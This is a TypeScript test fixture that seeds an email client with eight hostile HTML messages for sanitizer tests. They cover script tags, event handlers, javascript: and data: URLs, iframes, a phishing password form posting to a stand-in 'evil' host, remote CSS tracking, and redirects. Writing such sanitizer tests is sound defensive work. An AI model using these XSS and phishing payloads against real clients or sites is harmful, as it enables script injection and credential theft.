import type { SeedContent } from './seed-mail';
import type { Recipient } from './types';

/*
 * Hostile HTML for the client's sanitizer tests. Each one tries to run script or reach a remote host in a
 * different way; if any of them works, window.__tidingsPwned becomes true or a request leaves the page.
 * Subjects start with "[hostile]" so tests can find them.
 */

const SENDER: Recipient = {
  emailAddress: { name: 'Totally Legit IT', address: 'it-support@tailspin-security.test' },
};

const HOSTILE: readonly { subject: string; html: string }[] = [
  {
    subject: '[hostile] Script tag',
    html: '<p>Please read the attached policy.</p><script>window.__tidingsPwned = true;</script>',
  },
  {
    subject: '[hostile] Image onerror handler',
    html: '<p>Your parcel is on its way.</p><img src=x onerror="window.__tidingsPwned=true">',
  },
  {
    subject: '[hostile] onload handlers',
    html:
      '<body onload="window.__tidingsPwned=true"><svg onload="window.__tidingsPwned=true"><circle r="4"></circle></svg>' +
      '<p>Welcome to the new portal.</p></body>',
  },
  {
    subject: '[hostile] javascript: links',
    html:
      '<p><a href="javascript:window.__tidingsPwned=true">Claim your reward</a></p>' +
      '<p><a href=" JaVaScRiPt:window.__tidingsPwned=true">Mixed case</a> · ' +
      '<a href="data:text/html,<script>parent.__tidingsPwned=true</script>">data URL</a></p>',
  },
  {
    subject: '[hostile] Embedded iframe',
    html:
      '<p>Preview below.</p><iframe src="https://evil.tailspin-security.test/frame.html" ' +
      'srcdoc="<script>parent.__tidingsPwned=true</script>" width="400" height="200"></iframe>' +
      '<object data="https://evil.tailspin-security.test/x.swf"></object><embed src="https://evil.tailspin-security.test/y">',
  },
  {
    subject: '[hostile] Password form',
    html:
      '<p>Your password expires today. Confirm it below.</p>' +
      '<form action="https://evil.tailspin-security.test/collect" method="post">' +
      '<input name="email" value=""><input name="password" type="password">' +
      '<button type="submit" formaction="javascript:window.__tidingsPwned=true">Verify</button></form>',
  },
  {
    subject: '[hostile] CSS with remote url()',
    html:
      '<style>body{background:url(https://tracker.tailspin-security.test/pixel.gif)}' +
      '@import url("https://tracker.tailspin-security.test/track.css");</style>' +
      '<div style="background-image:url(\'https://tracker.tailspin-security.test/p2.gif\')">' +
      '<p>We noticed a sign-in from a new device.</p></div>',
  },
  {
    subject: '[hostile] Meta refresh redirect',
    html:
      '<html><head><meta http-equiv="refresh" content="0;url=https://evil.tailspin-security.test/"></head>' +
      '<body><p>Redirecting you to your invoice…</p><base href="https://evil.tailspin-security.test/"></body></html>',
  },
];

export function hostileMails(owner: Recipient): SeedContent[] {
  return HOSTILE.map(({ subject, html }) => ({
    subject,
    from: SENDER,
    to: [owner],
    body: { contentType: 'html', content: html },
    importance: 'high',
  }));
}
